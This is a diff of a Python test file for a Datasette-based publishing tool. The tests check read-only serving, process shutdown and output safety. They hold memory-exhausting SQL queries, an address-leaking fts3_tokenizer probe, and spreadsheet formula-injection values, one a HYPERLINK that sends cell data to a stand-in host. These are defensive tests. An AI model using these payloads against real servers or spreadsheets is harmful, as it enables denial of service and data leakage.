@@ -8,10 +8,18 @@ import asyncio
 import csv
 import io
 import json
+import os
 import re
+import signal
 import sqlite3
+import subprocess
+import sys
+import time
 import urllib.error
 import urllib.request
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager, suppress
 from pathlib import Path
 from urllib.parse import urlencode
 
@@ -33,7 +41,7 @@ from nianbao.publish.datasette import (
 )
 from nianbao.publish.metadata import DATABASE, TITLE, table2_columns
 from tests.helpers import SAMPLE_NAMES, sample_path
-from tests.published import serving
+from tests.published import free_port, serving
 
 CJK = re.compile(r"[\u4e00-\u9fff]")
 LATIN = re.compile(r"[A-Za-z]{3}")
@@ -348,12 +356,13 @@ def fetch_json(url: str):
 
 
 def test_serve_command_is_local_and_read_only(site):
-    argv = serve_command(site)
-    assert argv[1:4] == ["-m", "datasette", "serve"]
-    assert argv[argv.index("-i") + 1] == str(site / DATABASE_FILE)
-    assert argv[argv.index("-m", 2) + 1] == str(site / METADATA_FILE)
+    argv, cwd = serve_command(site)
+    assert argv[1:4] == ["-m", "nianbao.publish.datasette_limits", "serve"]  # Datasette with nianbao's limits
+    assert cwd == site.resolve()
+    assert argv[argv.index("-i") + 1] == DATABASE_FILE  # named in its folder: visitors never see the path
+    assert argv[argv.index("-m", 2) + 1] == METADATA_FILE
     assert argv[argv.index("--host") + 1] == "127.0.0.1" and argv[argv.index("--port") + 1] == "8001"
-    assert str(site / DATABASE_FILE) not in [a for i, a in enumerate(argv) if argv[i - 1] != "-i"]  # never mutable
+    assert DATABASE_FILE not in [a for i, a in enumerate(argv) if argv[i - 1] != "-i"]  # never mutable
     settings = {argv[i + 1]: argv[i + 2] for i, a in enumerate(argv) if a == "--setting"}
     assert settings == SETTINGS and settings["sql_time_limit_ms"] == "1500"
 
@@ -369,7 +378,10 @@ def test_server_json_reports(server):
     ]
     databases = fetch_json(f"{server}/-/databases.json")
     assert [(d["name"], d["is_mutable"]) for d in databases] == [(DATABASE, False)]
-    assert fetch_json(f"{server}/-/plugins.json") == []  # no plugin, so none that writes
+    plugins = fetch_json(f"{server}/-/plugins.json")  # nianbao's limits alone: no plugin that writes
+    assert [(p["name"], p["hooks"]) for p in plugins] == [
+        ("nianbao.publish.datasette_limits", ["prepare_connection", "startup"])
+    ]
     assert fetch_json(f"{server}/-/settings.json")["sql_time_limit_ms"] == 1500
 
 
@@ -441,3 +453,147 @@ def test_published_copy_holds_no_names_or_local_paths(fixture, request):
     assert len(values) > 1000
     for table, value in values:
         assert not any(piece in value for piece in local), (table, value[:200])
+
+
+# --- `nianbao serve` in public: hostile queries, what it shows, how it stops ---------------------------
+
+HOSTILE = [
+    "select length(printf('%.*c', 900000000, 'x'))",
+    "select hex(zeroblob(200000000))",
+    "select length(format('%*d', 900000000, 1))",
+    "select length(randomblob(300000000))",
+    "select length(replace(hex(zeroblob(8000000)), '0', hex(zeroblob(100))))",
+    "select length(printf('%.*c', 900000000, 'x'))",
+]
+
+
+@pytest.fixture(scope="module")
+def published(tmp_path_factory) -> Path:
+    """The five samples published as `nianbao publish` does (Datasette files and the site)."""
+    from nianbao.publish.run import publish
+
+    root = tmp_path_factory.mktemp("served")
+    db = connect(root / "work.db")
+    list(pipeline.import_paths(db, [sample_path(n) for n in SAMPLE_NAMES]))
+    out = publish(db, root / "out", include_unapproved=True).out
+    db.close()
+    return out
+
+
+@contextmanager
+def nianbao_serve(out: Path) -> Iterator[tuple[subprocess.Popen, str]]:
+    """`nianbao serve OUT` on a free port, answering; the process and its base URL. Always
+    stopped, with its Datasette child."""
+    port = free_port()
+    argv = [sys.executable, "-m", "nianbao.tui.cli", "serve", str(out), "--port", str(port)]
+    process = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    base = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 30
+        while True:
+            try:
+                urllib.request.urlopen(f"{base}/-/versions.json", timeout=1).read()
+                break
+            except OSError:
+                assert process.poll() is None and time.monotonic() < deadline, "nianbao serve did not start"
+                time.sleep(0.1)
+        yield process, base
+    finally:
+        with suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+def children(pid: int) -> list[int]:
+    return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
+
+
+def query(base: str, sql: str) -> tuple[int, str]:
+    url = f"{base}/{DATABASE}.json?" + urlencode({"sql": sql, "_shape": "array"})
+    try:
+        with urllib.request.urlopen(url, timeout=60) as response:
+            return response.status, response.read().decode()
+    except urllib.error.HTTPError as error:
+        return error.code, error.read().decode()
+
+
+def test_six_hostile_queries_leave_the_server_answering(published):
+    """Six queries that each asked SQLite for gigabytes in one step (past the time limit, which
+    is checked between steps) are refused at once; a visitor's query meanwhile is answered, and
+    the server's memory stays under 1 GiB. (The time is checked loosely: the machine is shared.)"""
+    with nianbao_serve(published) as (process, base), ThreadPoolExecutor(len(HOSTILE)) as pool:
+        (datasette_pid,) = children(process.pid)
+        hostile = [pool.submit(query, base, sql) for sql in HOSTILE]
+        start = time.monotonic()
+        status, body = query(base, "select count(*) as n from reports")
+        waited = time.monotonic() - start
+        answers = [future.result() for future in hostile]
+        peak_kb = int(re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{datasette_pid}/status").read_text()).group(1))
+    assert (status, json.loads(body)) == (200, [{"n": 5}])
+    assert waited < 10
+    for sql, (code, text) in zip(HOSTILE, answers):
+        assert code == 400, (sql, code, text[:200])
+        assert "too big" in text or "user-defined function raised exception" in text, (sql, text[:300])
+    assert peak_kb < 1024 * 1024
+
+
+def test_served_instance_shows_no_path_and_no_address(published):
+    with nianbao_serve(published) as (_, base):
+        databases = fetch_json(f"{base}/-/databases.json")
+        listed = query(base, "select name, file from pragma_database_list")
+        tokenizer = query(base, "select fts3_tokenizer('simple') as t")
+        normal = query(base, "select printf('%5.1f|%s|%%', 3.14159, '年报') as p")
+    assert [d["path"] for d in databases] == [DATABASE_FILE]
+    assert str(published.parent) not in json.dumps(databases)
+    assert (listed[0], json.loads(listed[1])) == (200, [{"name": "main", "file": None}])
+    assert tokenizer[0] == 400 and "user-defined function raised exception" in tokenizer[1]
+    assert (normal[0], json.loads(normal[1])) == (200, [{"p": "  3.1|年报|%"}])  # printf works as ever
+
+
+@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP], ids=["TERM", "HUP"])
+def test_stopping_nianbao_serve_stops_datasette(published, signum):
+    """`kill -TERM` (or -HUP) of `nianbao serve` alone: its Datasette child stops too, instead
+    of serving on the port with no parent."""
+    with nianbao_serve(published) as (process, base):
+        (datasette_pid,) = children(process.pid)
+        process.send_signal(signum)
+        process.wait(timeout=30)
+        deadline = time.monotonic() + 30
+        while Path(f"/proc/{datasette_pid}").exists() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert not Path(f"/proc/{datasette_pid}").exists()
+        with pytest.raises(OSError):
+            urllib.request.urlopen(f"{base}/-/versions.json", timeout=2)
+
+
+FORMULAS = {
+    "narratives": ("text", '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'),
+    "reports": ("title", "+SUM(1,2)"),
+}
+
+
+def test_served_csv_guards_spreadsheet_formulas(tmp_path):
+    """The published `reports` and `narratives` as CSV from Datasette: a text that starts like a
+    formula gets the leading apostrophe the site's CSVs give it; the JSON keeps it exact."""
+    files = {sample_path(n).name: sample_path(n).read_bytes() for n in SAMPLE_NAMES[:2]}
+    site = publish_dir(tmp_path, files)
+    with sqlite3.connect(site / DATABASE_FILE) as conn:
+        for table, (column, text) in FORMULAS.items():
+            conn.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = (SELECT min(rowid) FROM {table})", [text])
+        conn.execute("UPDATE reports SET organ = '@SUM(A1)', website = '-2+3' WHERE id = 2")
+    with serving(site, tmp_path / "datasette.log") as base:
+        csv_rows = {
+            table: list(csv.DictReader(io.StringIO(fetch(f"{base}/{DATABASE}.csv?" + urlencode({"sql": sql})))))
+            for table, sql in [
+                ("narratives", "select * from narratives order by rowid"),
+                ("reports", "select * from reports order by id"),
+            ]
+        }
+        table_csv = fetch(f"{base}/{DATABASE}/reports.csv?_sort=id")
+        exact = fetch_json(f"{base}/{DATABASE}/reports.json?_shape=array&_sort=id")
+    for table, (column, text) in FORMULAS.items():
+        assert csv_rows[table][0][column] == "'" + text
+    assert (csv_rows["reports"][1]["organ"], csv_rows["reports"][1]["website"]) == ("'@SUM(A1)", "'-2+3")
+    assert list(csv.DictReader(io.StringIO(table_csv)))[1]["organ"] == "'@SUM(A1)"  # a table's page as CSV too
+    assert (exact[0]["title"], exact[1]["organ"], exact[1]["website"]) == ("+SUM(1,2)", "@SUM(A1)", "-2+3")
+    assert csv_rows["reports"][0]["year"] == "2024"  # numbers as they are
